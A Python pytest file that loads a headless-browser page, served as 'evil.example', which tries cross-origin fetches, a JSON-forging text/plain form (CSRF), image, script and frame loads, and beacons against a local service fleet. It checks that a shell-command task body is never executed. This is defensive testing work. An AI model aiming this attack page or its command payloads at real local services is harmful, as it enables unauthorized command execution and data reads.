"""A web page in a real browser, served from another port of this machine, against a running fleet.

The page tries simple, opaque and preflighted requests, forms, images, scripts and frames, by address and
by a name of its own that resolves to this machine. An unguarded server gets the same attacks, which
proves that the page works.
"""

from __future__ import annotations

import json
import subprocess
import threading
from collections.abc import Callable, Iterator
from contextlib import ExitStack
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
import requests

from pytest_execgo.adapter.answer import Answer
from pytest_execgo.adapter.base import PlanTrace
from pytest_execgo.adapter.budget import Budget
from pytest_execgo.adapter.gateway import ModelGateway
from pytest_execgo.chaos.model_proxy import ModelProxy
from pytest_execgo.emulators.httpd import Request, Response
from pytest_execgo.extensions.registry import Registry
from pytest_execgo.harness.fleet import Fleet, FleetSpec
from pytest_execgo.harness.service import SERVICE_NAMES
from pytest_execgo.models.context import PlanBudget
from tests.browsers import chromium

NAME = "evil.example"
PAGE = """<!doctype html><meta charset="utf-8"><body><script>
const targets = TARGETS;
const read = [];
const soon = (promise) => Promise.race([promise, new Promise((r) => setTimeout(r, 3000))]);
const attempt = async (url, options) => {
  try {
    const reply = await fetch(url, options);
    if (reply.type !== "opaque") read.push([url, reply.status, (await reply.text()).slice(0, 80)]);
  } catch (refused) {}
};
const element = (name, attributes) => new Promise((resolve) => {
  const made = Object.assign(document.createElement(name), attributes);
  made.onload = made.onerror = resolve;
  document.body.append(made);
});
const form = (url, body) => {
  const frame = document.createElement("iframe");
  frame.name = "f" + Math.random();
  const made = Object.assign(document.createElement("form"),
    { method: "POST", action: url, enctype: "text/plain", target: frame.name });
  // The text of the body ends up as name=value: the value closes the JSON.
  made.append(Object.assign(document.createElement("input"),
    { name: body.slice(0, -1) + ',"x":"', value: '"}' }));
  document.body.append(frame, made);
  const loaded = new Promise((resolve) => { frame.onload = resolve; });
  made.submit();
  return loaded;
};
(async () => {
  for (const [url, body] of targets) {
    const json = { "Content-Type": "application/json" };
    await Promise.all([
      attempt(url), attempt(url, { mode: "no-cors" }), attempt(url, { credentials: "include" }),
      attempt(url, { method: "POST", body }), attempt(url, { method: "POST", body, mode: "no-cors" }),
      attempt(url, { method: "POST", body, headers: json }),
      attempt(url, { method: "POST", body, headers: { ...json, "X-Execgo-Token": "guess" } }),
      attempt(url, { method: "DELETE" }), attempt(url, { method: "PUT", body, headers: json }),
      element("img", { src: url }), element("script", { src: url }), element("iframe", { src: url }),
      form(url, body),
    ].map(soon));
    navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }));
  }
  await fetch("/report", { method: "POST", body: JSON.stringify(read) });
})();
</script>"""


class Attacker:
    """Serves the page, and keeps what it reports."""

    def __init__(self, targets: list[tuple[str, str]]) -> None:
        self._page = PAGE.replace("TARGETS", json.dumps(targets))
        self.reported = threading.Event()
        self.read: list[Any] = []

    def __call__(self, request: Request) -> Response:
        if request.path == "/report":
            self.read = json.loads(request.body)
            self.reported.set()
            return Response(200)
        return Response(200, self._page.encode(), "text/html; charset=utf-8")


class Unguarded:
    """A server that answers every request, and lets every page read the answer."""

    def __init__(self) -> None:
        self.methods: set[str] = set()

    def __call__(self, request: Request) -> Response:
        self.methods.add(request.method)
        allowed = {f"Access-Control-Allow-{name}": "*" for name in ("Origin", "Methods", "Headers")}
        return Response(200, b"readable", "text/plain", allowed)


class NoModel:
    """A source of answers that must never be asked."""

    retryable = False

    def answer(self, number: int, path: str, asked: Any, seconds: float) -> Answer:
        raise AssertionError("a web page asked the model")


@pytest.fixture
def browser() -> str:
    return chromium()


@pytest.fixture
def fleet() -> Iterator[Fleet]:
    spec = FleetSpec(links=frozenset(SERVICE_NAMES))
    with Fleet(spec, Registry.build().launchers) as fleet:
        yield fleet


def harmful(marker: Path) -> str:
    """A body that ExecGo, the runtime and fixtures would all obey."""
    execution = {"kind": "command", "program": "touch", "args": [str(marker)]}
    task = {"id": "t", "type": "shell", "params": {"script": f"touch {marker}"}}
    fault = {"scope": "x", "effect": "error"}
    return json.dumps({"tasks": [task], "task_id": "t", "execution": execution, **fault})


def test_a_web_page_reads_executes_and_changes_nothing(
    browser: str, fleet: Fleet, tmp_path: Path
) -> None:
    marker, unguarded = tmp_path / "executed", Unguarded()
    gateway = ModelGateway(NoModel(), PlanTrace(), Budget(PlanBudget(), 0))
    with ExitStack() as stack:
        stack.enter_context(gateway)
        victims = [service.url for service in fleet.services.values()]
        victims += [fleet.url(name) for name in fleet.services]
        proxy = stack.enter_context(ModelProxy().before("http://127.0.0.1:9/v1", 5))
        victims += ["/".join(url.split("/")[:3]) for url in (gateway.url, proxy)]
        open_server = _behind_no_guard(stack, unguarded)
        paths = ("/tasks", "/api/v1/tasks", "/__control/faults", "/v1/chat/completions", "/")
        targets = [
            (base.replace("127.0.0.1", host) + path, harmful(marker))
            for base in [*victims, open_server]
            for host in ("127.0.0.1", NAME)
            for path in paths
        ]
        attacker = Attacker(targets)
        page = _behind_no_guard(stack, attacker)
        _visit(browser, page.replace("127.0.0.1", NAME), attacker, tmp_path)
        readable = {url.split("/")[2] for url, *_ in attacker.read}
        port = open_server.rpartition(":")[2]
        assert readable == {f"127.0.0.1:{port}", f"{NAME}:{port}"}
        assert {"GET", "POST", "PUT", "DELETE", "OPTIONS"} <= unguarded.methods
        assert gateway.requests == 0
    assert not marker.exists()
    tasks = f"{fleet.url('execgo')}/tasks"
    assert requests.get(tasks, headers=fleet.headers("execgo"), timeout=10).json() == []
    unknown = requests.get(
        f"{fleet.url('runtime')}/api/v1/tasks/t", headers=fleet.headers("runtime"), timeout=10
    )
    assert unknown.status_code == 404
    faults = f"{fleet.url('fixtures')}/__control/faults"
    found = requests.get(faults, headers=fleet.headers("fixtures"), timeout=10).json()
    assert found == {"faults": []}


def _behind_no_guard(stack: ExitStack, handle: Callable[[Request], Response]) -> str:
    """The URL of a server of the standard library, which refuses nothing."""

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def _answer(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
            reply = handle(Request(self.command, self.path, (), "", {}, body))
            self.send_response(reply.status)
            fields = {**reply.headers, "Content-Length": str(len(reply.body))}
            if reply.content_type:
                fields["Content-Type"] = reply.content_type
            for name, value in fields.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(reply.body)

        do_GET = do_POST = do_PUT = do_DELETE = do_OPTIONS = _answer

        def log_message(self, *args: object) -> None:
            """Print nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, daemon=True).start()
    stack.callback(server.server_close)
    stack.callback(server.shutdown)
    return f"http://127.0.0.1:{server.server_port}"


def _visit(browser: str, page: str, attacker: Attacker, folder: Path) -> None:
    command = [
        browser, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run",
        "--disable-dev-shm-usage",
        f"--user-data-dir={folder / 'profile'}", f"--host-resolver-rules=MAP {NAME} 127.0.0.1", page,
    ]  # fmt: skip
    with (folder / "browser.log").open("wb") as log:
        process = subprocess.Popen(command, stdout=log, stderr=log)
        try:
            assert attacker.reported.wait(180), (folder / "browser.log").read_text()[-2000:]
        finally:
            process.terminate()
            process.wait()
